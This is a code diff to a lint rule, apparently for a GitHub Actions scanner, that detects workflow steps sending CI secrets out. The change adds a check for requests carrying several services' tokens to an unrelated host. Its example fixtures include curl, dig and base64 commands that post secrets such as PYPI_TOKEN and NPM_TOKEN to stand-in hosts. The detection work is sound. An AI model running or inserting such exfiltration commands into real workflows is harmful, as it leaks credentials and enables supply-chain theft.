@@ -2,7 +2,7 @@ import { type Definition, type Step, stepsOf } from '../../workflow/model.ts';
 import { isResolver, type Transmission, transmissionsOf } from '../../workflow/secret-flow.ts';
 import { defineRule, type Report, type Severity, yaml } from '../rule.ts';
 
-type Message = 'collector' | 'environment' | 'lookup' | 'encoded' | 'address' | 'token' | 'socket';
+type Message = 'collector' | 'others' | 'environment' | 'lookup' | 'encoded' | 'address' | 'token' | 'socket';
 
 /** Services that show anybody what is sent to them, and tunnels to machines without a name. */
 const COLLECTOR =
@@ -40,13 +40,15 @@ export const secretExfiltration = defineRule({
       'https://blog.gitguardian.com/ghostaction-campaign-3-325-secrets-stolen/',
     ],
     messages: {
-      collector: 'The secret {{secret}} is sent to {{host}}, where anybody can collect it.',
+      collector: '{{secret}} is sent to {{host}}, where anybody can collect it.',
+      others:
+        '{{secret}} and other services’ secrets go to {{host}} in one request, which by their names is none of theirs.',
       environment: 'The whole environment, with every secret in it, is sent to {{host}}.',
-      lookup: 'The secret {{secret}} is put into a name lookup, which carries it past a firewall.',
-      encoded: 'The secret {{secret}} is encoded twice, which hides it from the log’s mask, and sent to {{host}}.',
-      address: 'The secret {{secret}} is sent to the bare address {{host}}.',
+      lookup: '{{secret}} is put into a name lookup, which carries it past a firewall.',
+      encoded: '{{secret}} is encoded twice, which hides it from the log’s mask, and sent to {{host}}.',
+      address: '{{secret}} is sent to the bare address {{host}}.',
       token: 'The job’s token is sent to {{host}}, which is not part of GitHub.',
-      socket: 'The secret {{secret}} is written to a raw connection to {{host}}.',
+      socket: '{{secret}} is written to a raw connection to {{host}}.',
     },
   },
   examples: {
@@ -77,6 +79,8 @@ export const secretExfiltration = defineRule({
                 - run: dig "$(echo $KEY | xxd -p).acme.example"
                 # expect: encoded
                 - run: curl "https://acme.example/?$(echo -n $KEY | base64 | base64)"
+                # expect: others
+                - run: curl -d 'a=\${{ secrets.PYPI_TOKEN }}&b=\${{ secrets.NPM_TOKEN }}' https://acme.example/
                 # expect: address
                 - run: curl -u "bot:$KEY" http://198.51.100.7:8080/
                 # expect: token
@@ -104,6 +108,8 @@ export const secretExfiltration = defineRule({
                     curl -H "Authorization: Basic $(echo -n "bot:$KEY" | base64)" https://api.acme.example/
                     curl -F package=@x "https://$KEY@push.acme.example/app/"
                     curl -d "$KEY" http://localhost:8080/ http://10.0.0.4/
+                    curl -d 'token=\${{ secrets.NPM_TOKEN }}' https://deploy.acme.example/
+                    curl -d '\${{ secrets.AWS_KEY }} \${{ secrets.DOCKERHUB_TOKEN }}' https://hub.docker.com/
                     curl -X POST "\${{ secrets.CHAT_WEBHOOK }}" -d "built"
                     curl https://webhook.site/ping
                     env | curl -d @- http://localhost:9200/
@@ -136,12 +142,33 @@ function* judge(transmission: Transmission, step: Step): Generator<Report<Messag
   const [message, severity] = verdict;
   yield {
     message,
-    data: { secret: secrets[0] ?? '', host: hosts[0] ?? 'a computed destination' },
+    data: { secret: nameOf(secrets[0]), host: hosts[0] ?? 'a computed destination' },
     at: step,
     span: command.span,
     severity,
     attributes: { hosts, kind: secrets.includes('github_token') ? 'write-token' : 'repo-secret' },
   };
+}
+
+function nameOf(secret: string | undefined): string {
+  return secret === '*' ? 'The object with every secret' : `The secret ${secret ?? ''}`;
+}
+
+/** Words by which a secret's name tells the service it is for, and the hosts of that service. */
+const SERVICES: readonly (readonly [name: RegExp, hosts: RegExp])[] = [
+  [/pypi|twine/, /pypi/],
+  [/npm|node_auth/, /npm/],
+  [/docker_?hub|docker_(?:token|pass)/, /docker/],
+  [/(?:^|_)aws(?:_|$)/, /aws/],
+  [/cargo|crates/, /crates/],
+  [/(?:^|_)(?:gh|github)_(?:token|pat)$/, /github/],
+  [/cloudflare/, /cloudflare/],
+];
+
+/** Whether a request takes secrets of several services along, and its host belongs to none of them. */
+function isOfOthers(secrets: readonly string[], hosts: readonly string[]): boolean {
+  const services = SERVICES.filter(([name]) => secrets.some((secret) => name.test(secret)));
+  return services.length > 1 && hosts.length > 0 && !services.some(([, own]) => hosts.some((host) => own.test(host)));
 }
 
 function verdictOn(
@@ -152,6 +179,7 @@ function verdictOn(
   if (isResolver(command)) return ['lookup', 'HIGH'];
   if (hosts.some((host) => COLLECTOR.test(host))) return ['collector', 'HIGH'];
   if (encodings > 1) return ['encoded', 'HIGH'];
+  if (isOfOthers(secrets, hosts)) return ['others', 'HIGH'];
   if (hosts.some((host) => ADDRESS.test(host))) return ['address', 'MEDIUM'];
   if (command.program !== 'curl' && command.program !== 'wget' && command.program !== 'http') {
     return hosts.length > 0 ? ['socket', 'MEDIUM'] : undefined;
